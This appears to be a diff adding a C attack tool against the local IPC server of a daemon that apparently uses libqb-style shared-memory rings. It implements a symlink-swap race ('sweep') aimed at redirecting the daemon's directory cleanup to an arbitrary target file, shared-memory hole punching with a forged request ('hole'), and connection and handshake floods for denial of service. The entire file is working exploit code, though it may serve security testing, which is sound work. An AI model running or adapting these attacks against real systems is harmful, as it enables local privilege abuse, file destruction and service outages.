@@ -1,0 +1,295 @@
+/*
+ * Attacks on the IPC server of a daemon, by what any local program can do: no library, raw sockets and files.
+ *
+ *   ipc sweep SECONDS TARGET          makes stale-looking connection directories and exchanges a directory in them with a link to TARGET
+ *   ipc hole SERVICE                  punches holes in the ring files, fills the shared memory, sends a request
+ *   ipc connect SERVICE N BYTES HOW   opens N connections for messages of BYTES; HOW: silent, byte (makes the daemon map the rings)
+ *   ipc mute SERVICE N                connects N times and never sends the connection request
+ *   ipc flood SERVICE SECONDS HOW     handshakes, one after the other; HOW: bare (closes at once), ask (does not wait), full
+ *
+ * What holds things goes on until its standard input ends.
+ */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/resource.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/un.h>
+#include <time.h>
+#include <unistd.h>
+
+#define RESPONSE_BYTES 12328
+#define SEMAPHORE_WORD 2052
+#define COMMITTED 0xA1A1A1A1u
+
+struct connection {
+	int fd;
+	int32_t error;
+	char rings[3][4096];
+};
+
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+static void hold(void)
+{
+	char byte;
+	fflush(stdout);
+	while (read(0, &byte, 1) > 0)
+		;
+}
+
+/* A socket that has connected, or -errno. */
+static int dial(const char *service)
+{
+	struct sockaddr_un address = { .sun_family = AF_UNIX };
+	strcpy(address.sun_path + 1, service);
+	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return -errno;
+	fcntl(fd, F_SETFL, O_NONBLOCK);
+	if (connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0)
+		return fd;
+	int error = errno;
+	close(fd);
+	return -error;
+}
+
+static int ask(int fd, uint32_t bytes)
+{
+	uint32_t request[6] = { (uint32_t)-1, 0, 24, 0, bytes, 0 };
+	return send(fd, request, sizeof(request), MSG_NOSIGNAL) == sizeof(request) ? 0 : -errno;
+}
+
+/* The whole handshake: 0 or the refusal's errno (negative). */
+static int handshake(struct connection *c, const char *service, uint32_t bytes)
+{
+	static char response[RESPONSE_BYTES];
+	c->fd = dial(service);
+	if (c->fd < 0)
+		return c->fd;
+	size_t got = 0;
+	int error = ask(c->fd, bytes);
+	while (error == 0 && got < RESPONSE_BYTES) {
+		struct pollfd wait = { .fd = c->fd, .events = POLLIN };
+		if (poll(&wait, 1, 20000) == 0) {
+			error = -ETIMEDOUT;
+			break;
+		}
+		ssize_t n = recv(c->fd, response + got, RESPONSE_BYTES - got, 0);
+		if (n <= 0)
+			error = n == 0 ? -EPIPE : -errno;
+		else
+			got += (size_t)n;
+	}
+	if (error == 0)
+		memcpy(&error, response + 16, 4);
+	if (error != 0) {
+		close(c->fd);
+		return error;
+	}
+	for (int i = 0; i < 3; i++)
+		memcpy(c->rings[i], response + 40 + 4096 * i, 4096);
+	return 0;
+}
+
+static int ring_file(struct connection *c, int ring, const char *kind)
+{
+	char path[4200];
+	snprintf(path, sizeof(path), "%s-%s", c->rings[ring], kind);
+	return open(path, O_RDWR);
+}
+
+/* ---- sweep ---- */
+
+#define PAIRS 12
+
+static void sweep(double seconds, const char *target)
+{
+	static const char base[] = "/dev/shm/qb-4000000-1-1-aaaaaa", linked[] = "/dev/shm/qb-4000000-1-1-linked";
+	char inner[PAIRS][128], link[PAIRS][128], file[160];
+	double end = now() + seconds;
+	for (int i = 0; i < PAIRS; i++) {
+		snprintf(inner[i], sizeof(inner[i]), "%s/%s%d", base, i == 0 ? "qb-request-cmap-data" : "inner", i);
+		snprintf(link[i], sizeof(link[i]), "%s/z%d", base, i);
+	}
+	mkdir(base, 0711);
+	printf("ready\n");
+	fflush(stdout);
+	while (now() < end) {
+		mkdir(base, 0711);
+		for (int i = 0; i < PAIRS; i++) {
+			/* Not empty, so that it takes a look inside to remove it. */
+			mkdir(inner[i], 0755);
+			snprintf(file, sizeof(file), "%s/file", inner[i]);
+			close(open(file, O_RDWR | O_CREAT, 0600));
+			symlink(target, link[i]);
+		}
+		for (int round = 0; round < 200; round++)
+			for (int i = 0; i < PAIRS; i++)
+				renameat2(AT_FDCWD, inner[i], AT_FDCWD, link[i], RENAME_EXCHANGE);
+		/* The directory itself, too. */
+		symlink(target, linked);
+		renameat2(AT_FDCWD, linked, AT_FDCWD, base, RENAME_EXCHANGE);
+		renameat2(AT_FDCWD, linked, AT_FDCWD, base, RENAME_EXCHANGE);
+	}
+}
+
+/* ---- hole ---- */
+
+static void hole(const char *service)
+{
+	struct connection c;
+	int error = handshake(&c, service, 1048576);
+	if (error != 0) {
+		printf("refused %d\n", error);
+		return;
+	}
+	int header[3], data[3];
+	for (int i = 0; i < 3; i++) {
+		header[i] = ring_file(&c, i, "header");
+		data[i] = ring_file(&c, i, "data");
+		/* As the library: 4 bytes less, and one more user of the ring. */
+		if (i > 0)
+			ftruncate(header[i], 8248);
+		int32_t two = 2;
+		pwrite(header[i], &two, 4, 8204);
+		fallocate(data[i], FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1052672);
+	}
+	int filler = open("/dev/shm/filler", O_RDWR | O_CREAT, 0600);
+	for (off_t step = 1 << 24; step >= 4096; step /= 2) {
+		static off_t at;
+		while (posix_fallocate(filler, at, step) == 0)
+			at += step;
+	}
+	/* A request in the ring: "no such function". */
+	uint32_t chunk[6] = { 16, COMMITTED, 9999, 0, 16, 0 };
+	uint32_t one = 1, six = 6;
+	ssize_t wrote = pwrite(data[0], chunk, sizeof(chunk), 0);
+	pwrite(header[0], &six, 4, 0);
+	pwrite(header[0], &one, 4, SEMAPHORE_WORD * 4);
+	printf("wrote %zd\n", wrote);
+	fflush(stdout);
+	for (int i = 0; i < 10; i++)
+		send(c.fd, "x", 1, MSG_NOSIGNAL);
+	struct pollfd wait = { .fd = c.fd, .events = POLLIN };
+	int ready = poll(&wait, 1, 1500);
+	char byte;
+	printf("%s\n", ready > 0 && recv(c.fd, &byte, 1, MSG_DONTWAIT) <= 0 ? "cut" : "open");
+	unlink("/dev/shm/filler");
+}
+
+/* ---- many ---- */
+
+static void summary(int good, const int *errors)
+{
+	printf("good %d", good);
+	for (int i = 1; i < 200; i++)
+		if (errors[i] > 0)
+			printf(" errno%d %d", i, errors[i]);
+	printf("\n");
+	fflush(stdout);
+}
+
+static void count(int *errors, int error)
+{
+	errors[-error > 0 && -error < 200 ? -error : 199]++;
+}
+
+static void many(const char *service, int n, uint32_t bytes, const char *how)
+{
+	int errors[200] = { 0 }, good = 0;
+	struct connection c;
+	for (int i = 0; i < n; i++) {
+		int error = handshake(&c, service, bytes);
+		if (error == -EAGAIN)
+			usleep(1000);
+		if (error != 0) {
+			count(errors, error);
+			continue;
+		}
+		good++;
+		if (strcmp(how, "byte") == 0)
+			send(c.fd, "x", 1, MSG_NOSIGNAL);
+	}
+	summary(good, errors);
+	hold();
+}
+
+static void mute(const char *service, int n)
+{
+	int errors[200] = { 0 }, good = 0;
+	for (int i = 0; i < n; i++) {
+		int fd = dial(service);
+		if (fd == -EAGAIN) {
+			usleep(1000);
+			fd = dial(service);
+		}
+		if (fd < 0)
+			count(errors, fd);
+		else
+			good++;
+	}
+	summary(good, errors);
+	hold();
+}
+
+static void flood(const char *service, double seconds, const char *how)
+{
+	int errors[200] = { 0 }, good = 0;
+	double end = now() + seconds;
+	struct connection c;
+	printf("ready\n");
+	fflush(stdout);
+	while (now() < end) {
+		int error;
+		if (strcmp(how, "full") == 0) {
+			error = handshake(&c, service, 12328);
+			if (error == 0)
+				close(c.fd);
+		} else {
+			error = c.fd = dial(service);
+			if (c.fd >= 0) {
+				error = strcmp(how, "ask") == 0 ? ask(c.fd, 12328) : 0;
+				close(c.fd);
+			}
+		}
+		if (error == 0)
+			good++;
+		else
+			count(errors, error);
+	}
+	summary(good, errors);
+}
+
+int main(int argc, char **argv)
+{
+	struct rlimit limit;
+	getrlimit(RLIMIT_NOFILE, &limit);
+	limit.rlim_cur = limit.rlim_max;
+	setrlimit(RLIMIT_NOFILE, &limit);
+	if (argc == 4 && strcmp(argv[1], "sweep") == 0)
+		sweep(atof(argv[2]), argv[3]);
+	else if (argc == 3 && strcmp(argv[1], "hole") == 0)
+		hole(argv[2]);
+	else if (argc == 6 && strcmp(argv[1], "connect") == 0)
+		many(argv[2], atoi(argv[3]), (uint32_t)atoi(argv[4]), argv[5]);
+	else if (argc == 4 && strcmp(argv[1], "mute") == 0)
+		mute(argv[2], atoi(argv[3]));
+	else if (argc == 5 && strcmp(argv[1], "flood") == 0)
+		flood(argv[2], atof(argv[3]), argv[4]);
+	else
+		return 2;
+	return 0;
+}
